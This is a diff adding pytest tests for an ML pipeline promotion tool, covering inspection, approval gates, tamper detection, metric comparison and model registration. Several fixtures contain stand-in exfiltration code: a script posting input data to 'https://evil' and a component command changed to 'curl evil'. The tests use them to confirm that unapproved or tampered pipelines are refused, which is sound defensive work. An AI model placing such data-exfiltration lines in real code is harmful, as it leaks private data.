@@ -1,0 +1,377 @@
+"""What happens in the environment that a pipeline is promoted to: inspect, approve, run, compare, register, undo."""
+
+import math
+from dataclasses import replace
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from shared.config.policy import Policy
+from shared.core.approval import Author
+from shared.core.messages import Candidate, Champion, Failed, FailureKind, Kind, Retry, Running, Succeeded
+from shared.core.wire import from_json
+from shared.ports import Bound, ChildJob, UnavailableError
+from shared.worker.order import Rules
+from shared.worker.steps.compare import Compared
+from shared.worker.steps.inspect import Inspected
+from tests.fakes.jobs import JobOutcome
+from tests.steps.pipeline import CODE, FILES, JOB, NAMED, TRAIN, Line, component
+from tests.steps.promotion import NOW
+
+ALL = ("register_components", "inspect", "approve", "run", "compare", "register_model")
+PRODUCTION = "/subscriptions/s/workspaces/ws-prod/data/churn-production/versions/7"
+
+
+@pytest.fixture
+def line(tmp_path: Path) -> Line:
+    return Line.new(tmp_path)
+
+
+def up_to(line: Line, last: str) -> Line:
+    return line.after(*ALL[: ALL.index(last) + 1])
+
+
+def failed(line: Line, step: str) -> Failed:
+    outcome = line.run(step)
+    assert isinstance(outcome, Failed), outcome
+    return outcome
+
+
+def under(line: Line, **policy: Any) -> Line:
+    return line.with_(rules=Rules(Policy.model_validate(policy)))
+
+
+def inspected(line: Line) -> Inspected:
+    return from_json(Inspected, line.evidence["inspect"])
+
+
+# --- inspect ---
+
+
+def test_inspect_fixes_the_version_of_data_that_is_asked_for_as_the_latest(line: Line) -> None:
+    given = inspected(up_to(line, "inspect")).manifest.inputs
+    assert {name: each.words for name, each in given.items()} == {"rows": "churn-production:7", "rate": "0.3"}
+    assert given["rows"].data == PRODUCTION
+
+
+def test_inspect_digests_the_same_for_the_same_and_differently_for_other_data(line: Line) -> None:
+    line = up_to(line, "register_components")
+    first = inspected(line.after("inspect")).manifest.digest
+    assert inspected(line.after("inspect")).manifest.digest == first
+    line.prod.has_data("churn-production", "8")
+    assert inspected(line.after("inspect")).manifest.digest != first
+
+
+@pytest.mark.parametrize(
+    ("settings", "words"),
+    [
+        ({"run": {"compute": "gone", "inputs": {"rows": "churn-production:7"}}}, "There is no compute gone in prod"),
+        ({"run": {"compute": "cpu"}}, "needs data for its input rows: a data asset"),
+        (
+            {"run": {"compute": "cpu", "inputs": {"rows": "churn-production:9"}}},
+            "no data asset churn-production, version 9",
+        ),
+        ({"run": {"compute": "cpu", "inputs": {"rows": "nobody@latest"}}}, "There is no data asset nobody in prod"),
+        ({"run": {"compute": "cpu", "inputs": {"rows": "old:1"}}}, "Data asset old, version 1, in prod is archived"),
+        (
+            {"run": {"compute": "cpu", "inputs": {"rows": "single:1"}}},
+            "rows, and single:1 is uri_file",
+        ),
+        ({"run": {"compute": "cpu", "inputs": {"rows": "a b/c"}}}, "as NAME:VERSION or NAME@latest"),
+        ({"run": {"compute": "cpu", "inputs": {"row": "churn-production:7"}}}, "has no input row; did you mean rows?"),
+    ],
+)
+def test_what_a_run_lacks_is_seen_before_anything_is_spent(line: Line, settings: dict[str, Any], words: str) -> None:
+    line.prod.has_data("old", "1", is_archived=True)
+    line.prod.has_data("single", "1", type="uri_file")
+    assert words in failed(up_to(line, "register_components").with_settings(**settings), "inspect").reason
+
+
+def test_a_region_that_the_registry_does_not_cover_is_seen_before_anything_is_spent(line: Line) -> None:
+    line.prod.out_of_reach = "westus"
+    assert "not replicated to westus" in failed(up_to(line, "register_components"), "inspect").reason
+
+
+@pytest.mark.parametrize(
+    ("policy", "words"),
+    [
+        ({"computes": ["big"]}, "policy: compute: asked for big, seen cpu"),
+        ({"identities": ["0f1e2d3c-4b5a-4678-9abc-def012345678"]}, "policy: identity"),
+        ({"max_instances": 2}, "policy: instances: asked for at most 2 for a step, seen 4"),
+        ({"approvals": 2}, "policy: approvals: asked for at least 2, seen the stage asks for 1"),
+        ({"not_author": True}, "policy: author"),
+    ],
+)
+def test_the_policy_of_the_environment_limits_what_may_run(line: Line, policy: dict[str, Any], words: str) -> None:
+    run = {"compute": "cpu", "inputs": {"rows": "churn-production:7"}, "instances": 4}
+    refused = failed(under(up_to(line, "register_components").with_settings(run=run), **policy), "inspect")
+    assert refused.kind is FailureKind.REFUSED
+    assert words in refused.reason
+
+
+def test_a_policy_that_is_kept_lets_the_pipeline_pass(line: Line) -> None:
+    identity = "0f1e2d3c-4b5a-4678-9abc-def012345678"
+    run = {
+        "compute": "serverless",
+        "inputs": {"rows": "churn-production:7"},
+        "identity": identity,
+        "instance_type": "D4",
+    }
+    line.dev.pipeline_authors[JOB] = [Author("dora", "dora", is_person=True)]
+    line = up_to(line, "register_components").with_settings(run=run)
+    policy = {"computes": ["Serverless"], "identities": [identity], "instance_types": ["d4"], "not_author": True}
+    assert all(verdict.holds for verdict in inspected(under(line, **policy).after("inspect")).gates)
+
+
+def test_approvers_see_what_changed_since_the_champion(line: Line) -> None:
+    before = up_to(line, "register_model")
+    candidate = Candidate(Kind.PIPELINE, "churn-training", "train-6", "dev", "ws")
+    line.dev.own.codes[CODE] = {**FILES, "train.py": b"import os", "new.py": b""}
+    line.dev.own.components[TRAIN] = component(NAMED, command="python train.py --more")
+    line.prod.has_data("churn-production", "8")
+    line = line.with_(champion=Champion("p", candidate, NOW, before.evidence))
+    seen = inspected(line.after("register_components", "inspect"))
+    assert seen.champion == "train-6"
+    told = "\n".join(seen.changed)
+    assert "step train: its command (was python train.py, is python train.py --more)" in told
+    assert "step prepare: its code (new.py added, train.py)" in told
+    assert "input rows (was churn-production:7, is churn-production:8)" in told
+
+
+# --- approve and run ---
+
+
+def test_the_run_is_one_job_of_registered_components_on_the_environments_own_data(line: Line) -> None:
+    up_to(line, "run")
+    (submission,) = line.prod.submissions
+    assert submission.name == "churn-training-train-7-abc-prod-run-1"
+    assert submission.experiment == "churn-pipeline"
+    assert submission.compute == "cpu"
+    assert submission.inputs == {"rows": Bound(data=PRODUCTION, kind="uri_folder"), "rate": Bound("0.3")}
+    assert all(node.component.startswith("azureml://registries/reg/components/") for node in submission.nodes.values())
+    assert submission.tags["mlpromote.promotion"] == line.promotion
+    assert submission.tags["mlpromote.source_job"] == JOB
+    assert submission.tags["mlpromote.commit"] == "f00d"
+    assert "promote" not in submission.tags
+
+
+def steal(line: Line) -> Line:
+    """A pipeline whose code would carry away the data that it gets to see."""
+    line.dev.own.codes[CODE] = {"train.py": b"requests.post('https://evil', data=open(sys.argv[1]))"}
+    return line
+
+
+def test_a_pipeline_that_would_carry_data_away_never_starts_unapproved(line: Line) -> None:
+    steal(line)
+    for unapproved in (
+        line.after("register_components", "inspect"),
+        up_to(Line.new(line.folder), "approve"),  # of another pipeline
+    ):
+        evidence = {**line.after("register_components", "inspect").evidence}
+        if "approve" in unapproved.evidence:
+            evidence["approve"] = unapproved.evidence["approve"]
+        refused = failed(line.with_(evidence=evidence), "run")
+        assert refused.kind is FailureKind.PERMISSION
+        assert "prod asks for 1 approvals of exactly this, and 0 count. Nothing was started" in refused.reason
+    assert not line.prod.submissions
+
+
+def test_code_that_was_swapped_after_the_approval_never_starts(line: Line) -> None:
+    line = up_to(line, "approve")
+    code = next(key for key in line.prod.registry.codes)
+    line.prod.registry.codes[code] = {**FILES, "train.py": b"steal()"}
+    refused = failed(line, "run")
+    assert refused.kind is FailureKind.CHANGED
+    assert "its code (train.py)" in refused.reason
+    assert not line.prod.submissions
+
+
+def test_a_component_that_was_swapped_after_the_approval_never_starts(line: Line) -> None:
+    line = up_to(line, "approve")
+    for key, there in line.prod.registry.components.items():
+        line.prod.registry.components[key] = replace(
+            there, specification={**there.specification, "command": "curl evil"}
+        )
+    assert failed(line, "run").kind is FailureKind.CHANGED
+    assert not line.prod.submissions
+
+
+def test_a_graph_that_was_swapped_on_its_way_never_starts(line: Line) -> None:
+    line = up_to(line, "approve")
+    forged = {**line.evidence["register_components"]}
+    graph = forged["graph"]
+    forged["graph"] = {**graph, "outputs": {"model": "uri_folder", "stolen": "uri_folder"}}
+    refused = failed(line.with_(evidence={**line.evidence, "register_components": forged}), "run")
+    assert refused.kind is FailureKind.CHANGED
+    assert not line.prod.submissions
+
+
+def test_new_data_after_the_approval_does_not_change_what_runs(line: Line) -> None:
+    line = up_to(line, "approve")
+    line.prod.has_data("churn-production", "8")
+    line.after("run")
+    assert line.prod.submissions[0].inputs["rows"].data == PRODUCTION
+
+
+def test_data_that_was_archived_after_the_approval_is_told_before_the_run(line: Line) -> None:
+    line = up_to(line, "approve")
+    line.prod.has_data("churn-production", "7", is_archived=True)
+    assert "is archived" in failed(line, "run").reason
+    assert not line.prod.submissions
+
+
+def test_a_stage_that_asks_nobody_runs_unless_the_policy_asks(line: Line) -> None:
+    free = up_to(line.with_settings(approval=False), "inspect")
+    assert isinstance(free.run("run"), Succeeded)
+    other = up_to(Line.new(line.folder).with_settings(approval=False), "inspect")
+    assert failed(under(other, approvals=1), "run").kind in (FailureKind.REFUSED, FailureKind.PERMISSION)
+    assert not other.prod.submissions
+
+
+def test_the_same_step_twice_submits_one_job(line: Line) -> None:
+    line = up_to(line, "approve")
+    line.prod.dies_after = "start_pipeline"
+    assert isinstance(line.run("run"), Succeeded)
+    assert isinstance(line.run("run"), Succeeded)
+    assert len(line.prod.submissions) == 1
+
+
+def test_another_job_under_our_name_is_a_conflict(line: Line) -> None:
+    line = up_to(line, "run")
+    there = line.prod.pipelines[line.job_name]
+    line.prod.pipelines[line.job_name] = replace(
+        there,
+        nodes={
+            **there.nodes,
+            "train": replace(there.nodes["train"], component="azureml://registries/x/components/e/versions/1"),
+        },
+    )
+    refused = failed(line, "run")
+    assert refused.kind is FailureKind.CONFLICT
+    assert "its step train runs azureml://registries/x" in refused.reason
+
+
+def test_a_step_of_the_run_that_fails_is_named_with_its_cause(line: Line) -> None:
+    line = up_to(line, "approve")
+    line.prod.outcome = JobOutcome("Failed", error="UserError: a step failed")
+    line.prod.children[line.job_name] = [(ChildJob("guid-9", "train", "Failed"), {})]
+    line.prod.ended["guid-9"] = JobOutcome("Failed", log="Traceback (most recent call last):\nValueError: no rows\n")
+    refused = failed(line, "run")
+    assert refused.reason.startswith("Step train of job ")
+    assert "ValueError: no rows" in refused.reason
+
+
+def test_a_run_waits_for_its_job_and_its_undo_cancels_it(line: Line) -> None:
+    line = up_to(line, "approve")
+    line.prod.polls_until_ended = None
+    outcome = line.poll("run")
+    assert isinstance(outcome, Running)
+    assert outcome.awaits is not None
+    assert outcome.awaits.is_ours
+    assert isinstance(line.run("cancel_job"), Succeeded)
+    assert line.submitted.status == "Canceled"
+
+
+# --- compare ---
+
+
+def compared(line: Line) -> Compared:
+    return from_json(Compared, line.evidence["compare"])
+
+
+def with_metrics(line: Line, **metrics: float) -> Line:
+    line = up_to(line, "run")
+    line.prod.children[line.job_name] = [(ChildJob("guid-2", "train", "Completed"), metrics)]
+    return line
+
+
+def test_metrics_on_sample_and_on_production_data_stand_side_by_side(line: Line) -> None:
+    line = with_metrics(line, auc=0.89, rows=10_000).after("compare")
+    rows = {row.metric: (row.source, row.here, row.champion) for row in compared(line).metrics}
+    assert rows == {"auc": (0.9, 0.89, None), "rows": (None, 10_000, None)}
+
+
+def test_a_run_that_is_worse_than_the_source_is_refused_with_both_columns(line: Line) -> None:
+    refused = failed(with_metrics(line, auc=0.85), "compare")
+    assert refused.kind is FailureKind.REFUSED
+    assert "asked for no worse than 0.9 in the source's run by more than 0.02, seen 0.85" in refused.reason
+    assert "metric  source  here  champion\nauc     0.9     0.85  –" in refused.diagnosis
+    assert from_json(Compared, refused.evidence).metrics[0].source == 0.9
+
+
+@pytest.mark.parametrize(("value", "words"), [(math.nan, "the run logged NaN"), (None, "not logged by the job or any")])
+def test_a_metric_that_is_no_number_or_missing_is_refused_in_words(line: Line, value: float | None, words: str) -> None:
+    metrics = {"auc": value} if value is not None else {}
+    assert words in failed(with_metrics(line, **metrics), "compare").reason
+
+
+def test_a_run_is_compared_with_the_champions_run_here(line: Line) -> None:
+    before = up_to(line, "compare")
+    candidate = Candidate(Kind.PIPELINE, "churn-training", "train-6", "dev", "ws")
+    champion = Champion("p", candidate, NOW, before.evidence)
+    gate = {"metric": "auc", "no_worse_than_champion_by": 0.005, "without_champion": "fail"}
+    line = before.with_settings(validate=[gate])
+    assert "there is no champion: fail" in failed(line, "compare").reason
+    line = line.with_(champion=champion)
+    assert isinstance(line.run("compare"), Succeeded)
+    line.prod.children[line.job_name] = [(ChildJob("guid-2", "train", "Completed"), {"auc": 0.88})]
+    assert "no worse than 0.89 of the champion's run by more than 0.005, seen 0.88" in failed(line, "compare").reason
+
+
+# --- register ---
+
+
+def test_the_output_becomes_a_version_of_the_model_that_leads_back(line: Line) -> None:
+    line = up_to(line, "register_model")
+    model = line.prod.models["churn", "1"]
+    assert model.job == line.job_name
+    assert model.tags["promote"] == "true"
+    assert model.properties["mlpromote.promotion"] == line.promotion
+    assert model.properties["mlpromote.source_job"] == JOB
+    assert model.properties["mlpromote.commit"] == "f00d"
+    assert model.properties["mlpromote.data.rows"] == "churn-production:7"
+    assert model.properties["mlpromote.pipeline"] == line.evidence["register_components"]["pipeline"]
+
+
+def test_from_jobs_and_register_that_claim_the_same_output_make_one_version(line: Line) -> None:
+    line = up_to(line, "compare")
+    line.prod.has_model("churn", "4", job=line.job_name, tags={"mlpromote.job": line.job_name})
+    line = line.after("register_model")
+    assert line.evidence["register_model"]["version"] == "4"
+    assert list(line.prod.models) == [("churn", "4")]
+
+
+def test_an_output_that_the_run_does_not_have_is_told(line: Line) -> None:
+    line = up_to(line, "compare").with_settings(register={"output": "modell", "model": "churn"})
+    assert "has no output modell. Its outputs: model." in failed(line, "register_model").reason
+
+
+def test_a_stage_that_registers_nothing_still_makes_a_champion(line: Line) -> None:
+    settings = {name: value for name, value in line.settings.items() if name != "register"}
+    line = up_to(line.with_(settings=settings), "register_model")
+    assert line.evidence["register_model"]["version"] == ""
+    assert not line.prod.models
+
+
+def test_what_a_run_left_behind_stays_when_it_is_rolled_back(line: Line) -> None:
+    outcome = up_to(line, "register_model").run("withdraw")
+    assert outcome == Succeeded({"model": "churn", "version": "1"})
+    assert ("churn", "1") in line.prod.models
+
+
+@pytest.mark.parametrize(
+    ("step", "method"),
+    [
+        *(("inspect", each) for each in ("component", "code_files", "environment_asset", "has_compute", "data_asset")),
+        *(("run", each) for each in ("submitted_job", "pipeline_job", "start_pipeline", "missing_region")),
+        *(("compare", each) for each in ("metrics", "metrics_of_children")),
+        *(("register_model", each) for each in ("model_versions", "job", "register_output")),
+    ],
+)
+def test_throttling_of_any_call_is_tried_again(line: Line, step: str, method: str) -> None:
+    line = up_to(line, ALL[ALL.index(step) - 1])
+    line.prod.raises[method] = UnavailableError("throttled", timedelta(seconds=3))
+    assert line.poll(step) == Retry(timedelta(seconds=3), "throttled")
+    assert isinstance(line.run(step), Succeeded)
